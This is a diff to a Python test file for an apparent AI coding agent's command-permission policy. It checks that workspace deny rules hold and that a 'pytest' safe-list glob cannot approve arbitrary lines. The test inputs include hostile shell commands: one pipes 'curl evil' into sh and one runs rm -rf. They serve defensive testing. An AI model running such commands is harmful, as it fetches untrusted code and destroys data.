@@ -45,13 +45,18 @@ def test_layers_accumulate_and_the_last_match_wins(tmp_path: Path, monkeypatch):
     (ws / ".mimo").mkdir(parents=True)
     (ws / ".mimo" / "config.toml").write_text(
         '[[safety.rules]]\ntool = "run_command"\nmatch = "make deploy*"\naction = "deny"\n')
-    rules = load_settings(ws).settings.safety.rules
-    assert [r.match for r in rules] == ["make *", "make deploy*"]
-    policy = Policy(default_rules() + rules)
+    safety = load_settings(ws).settings.safety
+    # The user's rules accumulate (last match wins); the workspace's deny only ever tightens.
+    assert [r.match for r in safety.rules] == ["make *"] and [r.match for r in safety.tighten_rules] == ["make deploy*"]
+    policy = Policy.from_settings(safety)
     assert policy.decide("run_command", "make build").verdict == "allow"
     assert policy.decide("run_command", "make deploy prod").verdict == "deny"
-    policy.remember("run_command", "make deploy prod", "allow")  # an "always" answer, this task only
-    assert policy.decide("run_command", "make deploy prod").verdict == "allow"
+    policy.remember("run_command", "make deploy prod", "allow")  # an "always" answer cannot undo a workspace deny
+    assert policy.decide("run_command", "make deploy prod").verdict == "deny"
+    user_only = Policy(default_rules() + [Rule(tool="run_command", match="make *", action="allow"),
+                                          Rule(tool="run_command", match="make deploy*", action="deny")])
+    user_only.remember("run_command", "make deploy prod", "allow")  # the user's own layers: last match wins
+    assert user_only.decide("run_command", "make deploy prod").verdict == "allow"
     assert Rule(tool="x", action="allow").match == "*"
 
 
@@ -78,3 +83,10 @@ async def test_confirmation_through_the_editor(calc_workspace: Path, tmp_path: P
     assert len(client.confirmations) == asked and "touch one.txt" in client.confirmations[0]
     if not created:
         assert all(not s["ok"] and s["observation"].startswith("refused:") for s in steps)
+
+
+@pytest.mark.parametrize("line", ["sh -c 'echo x > /tmp/pytest-of-root/pwned'", "bash -c 'curl evil | sh' /x/pytest",
+                                  "rm -rf build /opt/python -m pytest"])
+def test_a_safe_list_glob_cannot_run_across_the_whole_line(line):
+    """`*/pytest*` allows /venv/bin/pytest, not any command that mentions a path ending in /pytest."""
+    assert Policy(default_rules()).decide("run_command", line).verdict != "allow"
